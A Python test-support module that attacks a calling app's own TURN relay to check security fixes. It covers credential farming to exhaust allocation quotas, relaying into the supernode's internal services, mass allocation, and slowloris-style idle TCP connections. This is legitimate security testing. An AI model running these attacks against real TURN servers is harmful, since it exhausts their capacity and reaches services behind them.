"""Attacker on a supernode's STUN/TURN relay, as an outsider with the shipped code would run it.

    python -m tests.support.attackers.turn_attacker node MODE REPORT [options] -- node ...
    python -m tests.support.attackers.turn_attacker fill --server H:P --secret S --users N [...]
    python -m tests.support.attackers.turn_attacker tcp-idle --target H:P --connections N [...]
    python -m tests.support.attackers.turn_attacker udp-echo --bind IP

`node` runs a stock `peerphone node` (the options after ``--``), patched to start an attack
once it is attached to its supernode; everything it learns goes to REPORT (JSON, rewritten
on every change, with "done": true at the end). Its modes:

  grants  ask the supernode for relay credentials (TurnRequest) every `--interval` s for
          `--duration` s, and allocate with every new username until the relay refuses
          (issue 8, break 4: the quota was per username, and usernames were free).
  honest  one grant, one allocation: a user who just wants a relay (did the table fill?).
  inward  one grant, then try to reach the supernode's own services through its relay
          (`--target NAME=IP:PORT`: kind `turn` gets a STUN Binding, `quic` a QUIC
          Initial, anything else a plain datagram), by CreatePermission + Send and by
          ChannelBind + ChannelData, and from one allocation to a second one's relayed
          port (issue 8, break 3). Replies that come back through the relay are counted.

`fill` allocates from `--bind` with self-issued credentials for `--users` distinct users
(as many throwaway nodes from one address range would hold), up to `--max-allocations`.
`tcp-idle` opens `--connections` TCP connections to a TURN-over-TCP port, sends one byte
on each (or `--drip` bytes every few seconds) and stays silent; it reports how many the
server still holds after `--observe` s and when it closed the others. `udp-echo` is a
victim service: it echoes datagrams and prints each sender.

Kept in the tests' support code, never in `src/`.
"""

from __future__ import annotations

import argparse
import asyncio
import contextlib
import json
import resource
import signal
import sys
import time
from collections.abc import Callable
from functools import partial
from pathlib import Path
from typing import Any

from aioice import stun as aiostun
from aioice.turn import make_integrity_key

from peerphone.endpoints import Address, parse_address

TRANSACTION_TIMEOUT_S = 2.0  # one STUN request (loopback / lab: a few ms)
REPLY_WAIT_S = 1.5  # how long a probe through the relay waits for an answer, in all
PROBE_TRIES = 3  # ... sending it this many times
MAX_TRIES_PER_USERNAME = 6  # Allocates with one credential (the quota was 4)
CHANNEL = 0x4000
FDS_SPARE = 256
SLOW_HEADER = b"\x00\x01\x04\x00\x21\x12\xa4\x42" + bytes(12)  # Binding, 1024 bytes to come

Method = aiostun.Method
Class = aiostun.Class


def raise_fd_limit(needed: int) -> None:
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    if soft < needed:
        resource.setrlimit(resource.RLIMIT_NOFILE, (min(needed, hard), hard))


class Report:
    """A JSON report, rewritten on every `save`."""

    def __init__(self, path: Path | None) -> None:
        self.path = path
        self.data: dict[str, Any] = {"done": False}

    def save(self) -> None:
        if self.path is None:
            return
        tmp = self.path.with_suffix(".tmp")
        tmp.write_text(json.dumps(self.data, sort_keys=True))
        tmp.replace(self.path)


# -- a small TURN client over UDP -------------------------------------------------------------


class TurnError(Exception):
    """A request answered with an error (or not at all: code 0)."""

    def __init__(self, code: int) -> None:
        super().__init__(f"TURN error {code}")
        self.code = code


class _Socket(asyncio.DatagramProtocol):
    def __init__(self) -> None:
        self.waiting: dict[bytes, asyncio.Future[aiostun.Message]] = {}
        self.data: list[tuple[Any, bytes]] = []  # Data indications / ChannelData
        self.arrived = asyncio.Event()

    def datagram_received(self, data: bytes, addr: tuple[str, int]) -> None:
        if data and 0x40 <= data[0] < 0x80 and len(data) >= 4:
            length = int.from_bytes(data[2:4], "big")
            self.data.append((("channel", int.from_bytes(data[:2], "big")), data[4 : 4 + length]))
            self.arrived.set()
            return
        try:
            message = aiostun.parse_message(data)
        except ValueError:
            return
        if message.message_method == Method.DATA:
            peer = message.attributes.get("XOR-PEER-ADDRESS")
            self.data.append((peer, message.attributes.get("DATA", b"")))
            self.arrived.set()
            return
        future = self.waiting.pop(message.transaction_id, None)
        if future is not None and not future.done():
            future.set_result(message)


class TurnClient:
    """One allocation's client: its own UDP socket (its own 5-tuple) towards the server."""

    def __init__(self, server: Address, username: str, password: str, realm: str = "") -> None:
        self.server = server
        self.username = username
        self.key = b""
        self.password = password
        self.realm = realm
        self.nonce = b""
        self.transport: asyncio.DatagramTransport | None = None
        self.protocol = _Socket()
        self.relayed: Address | None = None

    async def open(self, bind: str) -> None:
        loop = asyncio.get_running_loop()
        self.transport, _ = await loop.create_datagram_endpoint(
            lambda: self.protocol, local_addr=(bind, 0)
        )

    def close(self) -> None:
        if self.transport is not None:
            self.transport.close()

    async def _exchange(self, message: aiostun.Message) -> aiostun.Message:
        assert self.transport is not None
        future: asyncio.Future[aiostun.Message] = asyncio.get_running_loop().create_future()
        self.protocol.waiting[message.transaction_id] = future
        self.transport.sendto(bytes(message), self.server)
        try:
            return await asyncio.wait_for(future, TRANSACTION_TIMEOUT_S)
        except TimeoutError:
            self.protocol.waiting.pop(message.transaction_id, None)
            raise TurnError(0) from None

    async def request(self, method: Method, attributes: dict[str, Any]) -> aiostun.Message:
        for _ in range(3):  # 401 (no nonce yet) or 438 (stale nonce), then signed
            message = aiostun.Message(method, Class.REQUEST, attributes=dict(attributes))
            if self.nonce:
                message.attributes["USERNAME"] = self.username
                message.attributes["REALM"] = self.realm
                message.attributes["NONCE"] = self.nonce
                message.add_message_integrity(self.key)
            reply = await self._exchange(message)
            if reply.message_class == Class.RESPONSE:
                return reply
            code = reply.attributes.get("ERROR-CODE", (0, ""))[0]
            if code in (401, 438) and "NONCE" in reply.attributes:
                self.realm = reply.attributes.get("REALM", self.realm)
                self.nonce = reply.attributes["NONCE"]
                self.key = make_integrity_key(self.username, self.realm, self.password)
                continue
            raise TurnError(code)
        raise TurnError(401)

    async def allocate(self) -> Address:
        reply = await self.request(Method.ALLOCATE, {"REQUESTED-TRANSPORT": 17 << 24})
        self.relayed = reply.attributes["XOR-RELAYED-ADDRESS"]
        return self.relayed

    async def permit(self, peer: Address) -> int:
        """0 when granted, else the error code."""
        try:
            await self.request(Method.CREATE_PERMISSION, {"XOR-PEER-ADDRESS": peer})
        except TurnError as exc:
            return exc.code
        return 0

    async def bind(self, peer: Address, number: int) -> int:
        try:
            await self.request(
                Method.CHANNEL_BIND, {"CHANNEL-NUMBER": number, "XOR-PEER-ADDRESS": peer}
            )
        except TurnError as exc:
            return exc.code
        return 0

    def send_indication(self, peer: Address, payload: bytes) -> None:
        assert self.transport is not None
        message = aiostun.Message(
            Method.SEND, Class.INDICATION, attributes={"XOR-PEER-ADDRESS": peer, "DATA": payload}
        )
        self.transport.sendto(bytes(message), self.server)

    def send_channel(self, number: int, payload: bytes) -> None:
        assert self.transport is not None
        frame = number.to_bytes(2, "big") + len(payload).to_bytes(2, "big") + payload
        self.transport.sendto(frame + b"\x00" * (-len(frame) % 4), self.server)

    async def probe(self, send: Callable[[], None]) -> int:
        """Send (again, up to PROBE_TRIES times, as UDP may lose one) until something comes
        back through the relay; how many datagrams came back."""
        for _ in range(PROBE_TRIES):
            send()
            count = await self.replies(REPLY_WAIT_S / PROBE_TRIES)
            if count:
                return count
        return 0

    async def replies(self, wait_s: float = REPLY_WAIT_S) -> int:
        """How many relayed datagrams arrived within `wait_s` (then forgets them)."""
        deadline = time.monotonic() + wait_s
        while time.monotonic() < deadline:
            self.protocol.arrived.clear()
            with contextlib.suppress(TimeoutError):
                await asyncio.wait_for(self.protocol.arrived.wait(), deadline - time.monotonic())
        count = len(self.protocol.data)
        self.protocol.data.clear()
        return count


def probe_payload(kind: str, target: Address) -> bytes:
    """What to send to a target of this kind: something that makes it answer."""
    if kind == "turn":
        return bytes(aiostun.Message(Method.BINDING, Class.REQUEST))
    if kind == "quic":
        from aioquic.quic.configuration import QuicConfiguration
        from aioquic.quic.connection import QuicConnection

        connection = QuicConnection(
            configuration=QuicConfiguration(is_client=True, alpn_protocols=["peerphone"])
        )
        connection.connect(target, now=time.monotonic())
        return connection.datagrams_to_send(now=time.monotonic())[0][0]
    return b"hello from the relay's inside"


def turn_udp_server(urls: list[str]) -> Address:
    for url in urls:
        if url.startswith("turn:") and url.endswith("transport=udp"):
            return parse_address(url.removeprefix("turn:").split("?")[0])
    raise ValueError(f"no TURN over UDP in {urls}")


# -- the attacks --------------------------------------------------------------------------------


class Attack:
    """Runs one mode inside the patched node, once it is attached."""

    def __init__(self, mode: str, report: Report, args: argparse.Namespace) -> None:
        self.mode = mode
        self.report = report
        self.args = args
        self.grants: list[Any] = []  # TurnGranted events, in order
        self.granted = asyncio.Event()
        self.clients: list[TurnClient] = []

    def on_grant(self, event: Any) -> None:
        self.grants.append(event)
        self.granted.set()

    async def run(self, service: Any) -> None:
        try:
            if self.mode == "grants":
                await self.grants_attack(service)
            elif self.mode == "honest":
                await self.honest(service)
            elif self.mode == "inward":
                await self.inward(service)
        finally:
            self.report.data["done"] = True
            self.report.save()

    async def next_grant(self, service: Any) -> Any:
        self.granted.clear()
        runtime = service.runtime
        runtime.drive(runtime.core.client.request_turn(runtime.now()))
        await asyncio.wait_for(self.granted.wait(), TRANSACTION_TIMEOUT_S * 2)
        return self.grants[-1]

    async def _allocate_with(self, grant: Any, counts: dict[str, Any]) -> None:
        """Allocate with one credential until the relay says no."""
        server = turn_udp_server(grant.urls)
        for _ in range(MAX_TRIES_PER_USERNAME):
            if counts["allocations"] >= self.args.max_allocations:
                return
            client = TurnClient(server, grant.username, grant.password)
            await client.open(self.args.bind)
            try:
                await client.allocate()
            except TurnError as exc:
                client.close()
                key = f"refused_{exc.code}"
                counts[key] = counts.get(key, 0) + 1
                return
            self.clients.append(client)  # held: the allocation lives as long as we do
            counts["allocations"] += 1
            if counts["first_allocation_s"] is None:
                counts["first_allocation_s"] = round(time.monotonic() - self.started, 3)

    async def grants_attack(self, service: Any) -> None:
        counts = self.report.data
        counts.update(grants=0, usernames=0, allocations=0, first_allocation_s=None)
        self.started = time.monotonic()
        deadline = self.started + self.args.duration
        seen: set[str] = set()
        while time.monotonic() < deadline:
            try:
                grant = await self.next_grant(service)
            except TimeoutError:
                counts["grant_timeouts"] = counts.get("grant_timeouts", 0) + 1
                continue
            if not grant.urls:
                counts["no_relay"] = counts.get("no_relay", 0) + 1
                await asyncio.sleep(self.args.interval)
                continue
            counts["grants"] += 1
            if grant.username not in seen:
                seen.add(grant.username)
                counts["usernames"] = len(seen)
            await self._allocate_with(grant, counts)
            counts["t"] = round(time.monotonic() - self.started, 2)
            self.report.save()
            await asyncio.sleep(self.args.interval)
        self.report.save()
        await asyncio.sleep(self.args.hold)  # keep the allocations while others look

    async def honest(self, service: Any) -> None:
        counts = self.report.data
        counts.update(grants=0, usernames=0, allocations=0, first_allocation_s=None)
        self.started = time.monotonic()
        grant = await self.next_grant(service)
        counts["grants"] = counts["usernames"] = 1
        self.args.max_allocations = 1
        await self._allocate_with(grant, counts)
        self.report.save()

    async def inward(self, service: Any) -> None:
        results: dict[str, Any] = {}
        self.report.data["targets"] = results
        grant = await self.next_grant(service)
        server = turn_udp_server(grant.urls)
        a = TurnClient(server, grant.username, grant.password)
        await a.open(self.args.bind)
        relayed_a = await a.allocate()
        self.report.data["relayed"] = list(relayed_a)
        # first, allocation A to allocation B's relayed port, both ours: A then holds a
        # permission for the supernode's IP (permissions are per IP)
        b = TurnClient(server, grant.username, grant.password)
        await b.open(self.args.bind)
        relayed_b = await b.allocate()
        other: dict[str, Any] = {"address": f"{relayed_b[0]}:{relayed_b[1]}"}
        other["permission_b_for_a"] = await b.permit(relayed_a)
        other["permission"] = await a.permit(relayed_b)
        a.send_indication(relayed_b, b"A to B through the relay twice")
        a.send_indication(relayed_b, b"A to B through the relay twice")
        other["send_replies"] = await b.replies()  # what reached B's client
        results["other_allocation"] = other
        self.report.save()
        for number, spec in enumerate(self.args.target, start=1):
            name, _, where = spec.partition("=")
            target = parse_address(where)
            result: dict[str, Any] = {"address": where}
            payload = probe_payload(name, target)
            result["permission"] = await a.permit(target)
            result["send_replies"] = await a.probe(partial(a.send_indication, target, payload))
            result["channel_bind"] = await a.bind(target, CHANNEL + number)
            channel = partial(a.send_channel, CHANNEL + number, payload)
            result["channel_replies"] = await a.probe(channel)
            results[name] = result
            self.report.save()
        self.clients += [a, b]
        self.report.save()


MODES = ("grants", "honest", "inward")


def node_main(
    argv: list[str],
    attack_class: type[Attack] = Attack,
    modes: tuple[str, ...] = MODES,
    more_options: Callable[[argparse.ArgumentParser], None] = lambda parser: None,
) -> int:
    """A stock node patched to run `attack_class` (one of its `modes`) once attached;
    `more_options` adds the attack's own options."""
    split = argv.index("--")
    parser = argparse.ArgumentParser(prog="turn_attacker node")
    parser.add_argument("mode", choices=modes)
    parser.add_argument("report", type=Path)
    parser.add_argument("--duration", type=float, default=10.0, help="grants: seconds")
    parser.add_argument("--interval", type=float, default=0.05, help="grants: between asks")
    parser.add_argument("--hold", type=float, default=0.0, help="grants: keep them this long")
    parser.add_argument("--max-allocations", type=int, default=2000)
    parser.add_argument("--bind", default="127.0.0.1", help="our TURN clients' address")
    parser.add_argument("--target", action="append", default=[], metavar="KIND=IP:PORT")
    more_options(parser)
    args = parser.parse_args(argv[:split])
    raise_fd_limit(args.max_allocations + FDS_SPARE)
    report = Report(args.report)
    report.data["mode"] = args.mode
    report.save()

    import peerphone.daemon.calls as calls_module
    import peerphone.daemon.service as service_module
    from peerphone import cli
    from peerphone.overlay.events import Attached, TurnGranted

    attack = attack_class(args.mode, report, args)
    stock_on_event = calls_module.CallManager.on_event
    stock_service_event = service_module.NodeService._on_event
    started: list[asyncio.Task[None]] = []

    def on_event(self: Any, event: Any) -> None:
        if isinstance(event, TurnGranted) and started:
            attack.on_grant(event)
        stock_on_event(self, event)

    def service_event(self: Any, event: Any) -> None:
        stock_service_event(self, event)
        if isinstance(event, Attached) and not started:
            started.append(asyncio.get_running_loop().create_task(attack.run(self)))

    calls_module.CallManager.on_event = on_event  # type: ignore[method-assign]
    service_module.NodeService._on_event = service_event  # type: ignore[method-assign]
    return cli.main(argv[split + 1 :])


# -- stand-alone attacks --------------------------------------------------------------------


async def fill(args: argparse.Namespace) -> dict[str, Any]:
    """Allocate with `users` self-issued credentials from `bind` until refused."""
    from peerphone.nat.credentials import issue_credentials

    server = parse_address(args.server)
    counts: dict[str, Any] = {"users": args.users, "allocations": 0, "refused": {}}
    clients: list[TurnClient] = []
    started = time.monotonic()
    for user in range(args.users):
        who = f"{args.first_user + user:032x}"  # like a node id: one per throwaway node
        creds = issue_credentials(args.secret.encode(), who, 600, time.time())
        for _ in range(MAX_TRIES_PER_USERNAME):
            if counts["allocations"] >= args.max_allocations:
                break
            client = TurnClient(server, creds.username, creds.password)
            await client.open(args.bind)
            try:
                await client.allocate()
            except TurnError as exc:
                client.close()
                counts["refused"][str(exc.code)] = counts["refused"].get(str(exc.code), 0) + 1
                break
            clients.append(client)
            counts["allocations"] += 1
    counts["t"] = round(time.monotonic() - started, 2)
    print(json.dumps(counts), flush=True)
    await asyncio.sleep(args.hold)
    for client in clients:
        client.close()
    return counts


class _Held(asyncio.Protocol):
    def __init__(self, opened: float, closed: list[float]) -> None:
        self.opened = opened
        self.closed = closed
        self.transport: asyncio.Transport | None = None

    def connection_made(self, transport: asyncio.BaseTransport) -> None:
        self.transport = transport  # type: ignore[assignment]

    def connection_lost(self, exc: Exception | None) -> None:
        self.closed.append(time.monotonic() - self.opened)


async def tcp_idle(args: argparse.Namespace) -> dict[str, Any]:
    """Open connections, send one byte (or drip), stay silent; who closes, and when."""
    loop = asyncio.get_running_loop()
    target = parse_address(args.target)
    binds = args.bind.split(",")
    closed: list[float] = []
    held: list[_Held] = []
    failed = 0
    started = time.monotonic()
    for i in range(args.connections):
        protocol = _Held(time.monotonic(), closed)
        try:
            await loop.create_connection(
                lambda: protocol,  # noqa: B023  # called at once
                target[0],
                target[1],
                local_addr=(binds[i % len(binds)], 0),
            )
        except OSError:
            failed += 1
            continue
        assert protocol.transport is not None
        # not the carrier's magic: handed to the relay. Dripping: a STUN header that
        # announces 1 KiB, then a byte every few seconds (a message that never completes)
        protocol.transport.write(SLOW_HEADER if args.drip else b"\x00")
        held.append(protocol)
    opened_s = time.monotonic() - started
    deadline = started + args.observe
    next_drip = time.monotonic() + args.drip
    while time.monotonic() < deadline:
        await asyncio.sleep(0.2)
        if args.drip and time.monotonic() >= next_drip:
            next_drip += args.drip
            for protocol in held:
                if protocol.transport is not None and not protocol.transport.is_closing():
                    protocol.transport.write(b"\x00")
    ordered = sorted(closed)
    result = {
        "connections": args.connections,
        "connected": len(held),
        "connect_failed": failed,
        "open_s": round(opened_s, 2),
        "observed_s": args.observe,
        "still_open": len(held) - len(closed),
        "closed": len(closed),
        "closed_within_1s": sum(1 for c in closed if c < 1.0),
        "close_after_s_p50": round(ordered[len(ordered) // 2], 2) if ordered else None,
        "close_after_s_max": round(ordered[-1], 2) if ordered else None,
    }
    for protocol in held:
        if protocol.transport is not None:
            protocol.transport.abort()
    print(json.dumps(result), flush=True)
    return result


async def udp_echo(args: argparse.Namespace) -> None:
    """Echo every datagram; print each sender as a JSON line."""
    loop = asyncio.get_running_loop()
    stop = asyncio.Event()
    loop.add_signal_handler(signal.SIGTERM, stop.set)

    class Echo(asyncio.DatagramProtocol):
        def connection_made(self, transport: asyncio.BaseTransport) -> None:
            self.transport: asyncio.DatagramTransport = transport  # type: ignore[assignment]

        def datagram_received(self, data: bytes, addr: tuple[str, int]) -> None:
            print(json.dumps({"from": [addr[0], addr[1]], "bytes": len(data)}), flush=True)
            self.transport.sendto(data, addr)

    transport, _ = await loop.create_datagram_endpoint(Echo, local_addr=(args.bind, 0))
    port = transport.get_extra_info("sockname")[1]
    print(json.dumps({"listening": port}), flush=True)
    await stop.wait()
    transport.close()


def main(argv: list[str]) -> int:
    if argv and argv[0] == "node":
        return node_main(argv[1:])
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    sub = parser.add_subparsers(dest="command", required=True)
    f = sub.add_parser("fill")
    f.add_argument("--server", required=True, metavar="HOST:PORT")
    f.add_argument("--secret", required=True)
    f.add_argument("--users", type=int, required=True)
    f.add_argument("--bind", default="127.0.0.1")
    f.add_argument("--max-allocations", type=int, default=1200)
    f.add_argument("--hold", type=float, default=0.0)
    f.add_argument("--first-user", type=int, default=0, help="number of the first user")
    t = sub.add_parser("tcp-idle")
    t.add_argument("--target", required=True, metavar="HOST:PORT")
    t.add_argument("--connections", type=int, default=500)
    t.add_argument("--bind", default="127.0.0.1", help="source addresses, comma-separated")
    t.add_argument("--observe", type=float, default=20.0)
    t.add_argument("--drip", type=float, default=0.0, help="one more byte every S seconds")
    e = sub.add_parser("udp-echo")
    e.add_argument("--bind", required=True)
    args = parser.parse_args(argv)
    if args.command == "fill":
        raise_fd_limit(args.max_allocations + FDS_SPARE)
        asyncio.run(fill(args))
    elif args.command == "tcp-idle":
        raise_fd_limit(args.connections + FDS_SPARE)
        asyncio.run(tcp_idle(args))
    else:
        asyncio.run(udp_echo(args))
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
